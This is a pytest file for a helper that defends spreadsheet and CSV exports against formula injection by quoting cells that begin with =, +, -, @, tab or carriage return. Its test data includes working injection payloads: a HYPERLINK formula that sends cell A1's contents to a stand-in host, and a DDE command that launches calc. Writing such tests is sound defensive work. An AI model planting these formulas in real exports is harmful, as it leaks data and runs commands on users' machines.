"""core.spreadsheet (SPEC §11): a cell beginning with = + - @, a tab or a carriage return is
text, never a formula; everything else, numbers first, is left as it is."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from core.spreadsheet import DANGEROUS, csv_row, is_dangerous, safe_text, xlsx_row

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"详情")'
HOSTILE = [HYPERLINK, "+cmd|' /C calc'!A0", "-1+1", "@SUM(1)", "\t=1", "\r=1"]
HARMLESS = ["a=b", "1+1", "中-文", "x@y.cn", "a\tb", "a\r\nb", " =1", "'=1", "", "东村"]
NUMBERS = [-1, -1.5, Decimal("-3.20"), 0, dt.date(2026, 3, 1), dt.datetime(2026, 3, 1, 9, 0)]


def test_the_six_characters_of_the_rule():
    assert set(DANGEROUS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize("first", DANGEROUS)
def test_each_dangerous_first_character_gets_the_quote(first):
    value = f"{first}SUM(A1:A9)"
    assert is_dangerous(value)
    assert safe_text(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_strings_that_only_contain_them_later_are_untouched(value):
    assert not is_dangerous(value)
    assert safe_text(value) is value


@pytest.mark.parametrize("value", [*NUMBERS, None, True])
def test_numbers_dates_and_none_are_untouched(value):
    assert not is_dangerous(value)
    assert safe_text(value) is value


def test_csv_round_trip():
    out = io.StringIO()
    csv.writer(out).writerow(csv_row([*HOSTILE, *HARMLESS, -1, Decimal("-2.5")]))
    (row,) = csv.reader(io.StringIO(out.getvalue()))
    assert row[: len(HOSTILE)] == ["'" + v for v in HOSTILE]
    assert row[len(HOSTILE) : -2] == HARMLESS
    assert row[-2:] == ["-1", "-2.5"]  # a negative number is a number, not prefixed


def _saved(book: Workbook):
    out = io.BytesIO()
    book.save(out)
    return load_workbook(io.BytesIO(out.getvalue()))


def test_openpyxl_alone_would_write_a_formula():
    """What the helper is for: a plain string starting with "=" becomes a formula cell."""
    book = Workbook()
    book.active.append([HYPERLINK])
    assert _saved(book).active["A1"].data_type == "f"


@pytest.mark.parametrize("write_only", [False, True], ids=["normal", "write-only"])
def test_xlsx_cells_are_text_with_the_same_text(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("x")
    sheet.append(xlsx_row(sheet, HOSTILE))
    sheet.append(xlsx_row(sheet, HARMLESS))
    sheet.append(xlsx_row(sheet, NUMBERS))
    read = _saved(book)["x"]
    hostile, harmless, numbers = (
        read[n][: len(values)] for n, values in enumerate([HOSTILE, HARMLESS, NUMBERS], 1)
    )
    for cell, value in zip(hostile, HOSTILE, strict=True):
        assert cell.data_type == "s" and cell.value == value  # no quote added to the text
        assert cell.quotePrefix  # Excel's "typed with a leading '": editing keeps it text
    for cell, value in zip(harmless, HARMLESS, strict=True):
        assert cell.value == (value or None) and not cell.quotePrefix
    assert [c.value for c in numbers] == [-1, -1.5, -3.2, 0, dt.datetime(2026, 3, 1), NUMBERS[5]]
    assert [c.data_type for c in numbers] == ["n", "n", "n", "n", "d", "d"]
    assert not any(c.data_type == "f" for row in read.iter_rows() for c in row)
